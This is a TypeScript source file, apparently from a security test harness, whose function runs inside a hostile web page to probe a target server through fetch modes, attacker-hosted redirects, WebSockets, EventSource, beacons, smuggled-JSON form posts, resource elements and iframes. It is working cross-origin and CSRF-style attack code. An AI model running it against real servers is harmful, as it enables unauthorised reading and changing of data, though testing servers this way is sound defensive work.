/** What a hostile page is told to attack. Paths are tried below `target`; texts must survive JSON. */
export interface PageAttack {
  /** `http://host:port` without a path. */
  readonly target: string;
  /** Paths that a GET would read, or by which it would change something. */
  readonly gets: readonly string[];
  /** Paths that a POST would change something by. */
  readonly posts: readonly string[];
  /** Paths that accept WebSockets. */
  readonly sockets: readonly string[];
  /** Origin of a server of the attacker's, which redirects `/redirect?to=URL` with all that a request carries. */
  readonly accomplice: string;
}

export interface PageLoot {
  readonly tried: number;
  /** What the page could read, by the way it was read. */
  readonly read: readonly string[];
}

/**
 * Runs inside a hostile page, frame or worker, from its source text alone: tries all that such a place can do to reach
 * a server. Where there is no document, what needs one is left out.
 */
// All that it needs is within, because only its own text gets to where it runs.
export async function attackFromPage(attack: PageAttack): Promise<PageLoot> {
  const { target, gets, posts, sockets, accomplice } = attack;
  const read: string[] = [];
  let tried = 0;
  const lease = JSON.stringify({ holder: 'page', slot: 1 });
  const settled = (work: Promise<unknown>): Promise<unknown> =>
    Promise.race([work, new Promise((done) => setTimeout(done, 4_000))]);
  const attempt = (way: string, work: () => Promise<string | undefined | void>): Promise<unknown> => {
    tried += 1;
    const loot = Promise.resolve()
      .then(work)
      .then(
        (text) => text !== undefined && text !== '' && read.push(`${way}: ${text.slice(0, 80)}`),
        () => undefined,
      );
    return settled(loot);
  };
  const redirected = (url: string): string => `${accomplice}/redirect?to=${encodeURIComponent(url)}`;
  const textOf = async (url: string, init: RequestInit): Promise<string> => (await fetch(url, init)).text();

  await byFetch();
  await bySockets();
  if (typeof document !== 'undefined') await byDocument();
  return { tried, read };

  async function byFetch(): Promise<void> {
    const all: (() => Promise<unknown>)[] = [];
    for (const mode of ['cors', 'no-cors', 'same-origin'] as const) {
      for (const path of gets) {
        all.push(
          () => attempt(`GET ${path} ${mode}`, () => textOf(target + path, { mode })),
          () => attempt(`redirected GET ${path} ${mode}`, () => textOf(redirected(target + path), { mode })),
        );
      }
      const types = [
        'text/plain',
        'application/json',
        'application/x-www-form-urlencoded',
        'multipart/form-data',
      ];
      for (const path of posts) {
        for (const type of types) {
          const init = { method: 'POST', mode, body: lease, headers: { 'content-type': type } };
          all.push(() => attempt(`POST ${path} ${mode} ${type}`, () => textOf(target + path, init)));
        }
        const plain = { method: 'POST', mode, body: lease };
        all.push(
          () => attempt(`redirected POST ${path} ${mode}`, () => textOf(redirected(target + path), plain)),
          () =>
            attempt(`lasting POST ${path} ${mode}`, () =>
              textOf(target + path, { ...plain, keepalive: true }),
            ),
        );
        for (const method of ['PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD'])
          all.push(() => attempt(`${method} ${path} ${mode}`, () => textOf(target + path, { method, mode })));
      }
    }
    await inLanes(all);
  }

  /** A few at a time, because a browser opens at most six connections to one server. */
  async function inLanes(all: (() => Promise<unknown>)[]): Promise<void> {
    const lanes = Array.from({ length: 12 }, async () => {
      for (let next = all.shift(); next !== undefined; next = all.shift()) await next();
    });
    await Promise.all(lanes);
  }

  async function bySockets(): Promise<void> {
    for (const path of sockets) {
      await attempt(
        `WebSocket ${path}`,
        () =>
          new Promise((done) => {
            const socket = new WebSocket(target.replace('http', 'ws') + path);
            socket.addEventListener('open', () => done('opened'));
            socket.addEventListener('error', () => done(undefined));
          }),
      );
    }
    if (typeof EventSource === 'undefined') return;
    for (const path of gets) {
      await attempt(
        `EventSource ${path}`,
        () =>
          new Promise((done) => {
            const source = new EventSource(target + path);
            const end = (loot: string | undefined): void => {
              source.close();
              done(loot);
            };
            source.addEventListener('open', () => end('opened'));
            source.addEventListener('error', () => end(undefined));
          }),
      );
    }
  }

  async function byDocument(): Promise<void> {
    for (const path of posts) {
      await attempt(`beacon ${path}`, async () => void navigator.sendBeacon(target + path, lease));
      const json = new Blob([lease], { type: 'application/json' });
      await attempt(`JSON beacon ${path}`, async () => void navigator.sendBeacon(target + path, json));
      for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
        await attempt(`form ${path} ${enctype}`, () => submitForm(target + path, enctype));
        await attempt(`redirected form ${path} ${enctype}`, () =>
          submitForm(redirected(target + path), enctype),
        );
      }
    }
    const elements: [string, Record<string, string>, string][] = [
      ['img', {}, 'src'],
      ['script', {}, 'src'],
      ['script', { type: 'module' }, 'src'],
      ['link', { rel: 'stylesheet' }, 'href'],
      ['link', { rel: 'prefetch' }, 'href'],
      ['link', { rel: 'modulepreload' }, 'href'],
      ['object', {}, 'data'],
      ['video', {}, 'src'],
    ];
    const all: (() => Promise<unknown>)[] = [];
    for (const path of gets) {
      for (const [tag, attributes, source] of elements) {
        for (const url of [target + path, redirected(target + path)]) {
          const element = (): HTMLElement =>
            Object.assign(document.createElement(tag), attributes, { [source]: url });
          all.push(() => attempt(`${tag} ${path}`, () => loaded(element())));
        }
      }
      all.push(() => attempt(`frame ${path}`, () => textOfFrame(target + path)));
    }
    await inLanes(all);
  }

  async function textOfFrame(url: string): Promise<string | undefined> {
    const frame = document.createElement('iframe');
    frame.src = url;
    await loaded(frame);
    return frame.contentDocument?.body.textContent ?? undefined;
  }

  function loaded(element: HTMLElement): Promise<void> {
    return new Promise((done) => {
      element.addEventListener('load', () => done());
      element.addEventListener('error', () => done());
      // A prefetch may have no event at all.
      setTimeout(done, 500);
      document.body.append(element);
    });
  }

  async function submitForm(action: string, enctype: string): Promise<void> {
    const name = `sink${tried}`;
    const frame = Object.assign(document.createElement('iframe'), { name });
    document.body.append(frame);
    const form = Object.assign(document.createElement('form'), {
      action,
      method: 'post',
      enctype,
      target: name,
    });
    form.append(
      Object.assign(document.createElement('input'), { name: '{"holder":"page","x":"', value: '"}' }),
    );
    document.body.append(form);
    const done = new Promise<void>((resolve) => {
      frame.addEventListener('load', () => resolve());
    });
    form.submit();
    await settled(done);
  }
}
